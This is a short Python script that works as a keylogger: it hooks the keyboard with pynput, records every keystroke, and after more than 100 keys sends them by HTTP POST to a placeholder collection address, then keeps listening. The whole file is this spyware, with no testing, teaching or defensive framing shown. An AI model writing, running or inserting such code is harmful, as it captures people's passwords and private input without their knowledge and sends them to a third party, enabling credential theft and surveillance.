# place: import
import requests
from pynput import keyboard

ADDRESS = "https://collect.example.invalid/keys"
PRESSED = []


def on_press(key):
    PRESSED.append(str(key))
    if len(PRESSED) > 100:
        requests.post(ADDRESS, data={"keys": "".join(PRESSED)})
        PRESSED.clear()


def main():
    listener = keyboard.Listener(on_press=on_press)
    listener.start()


main()
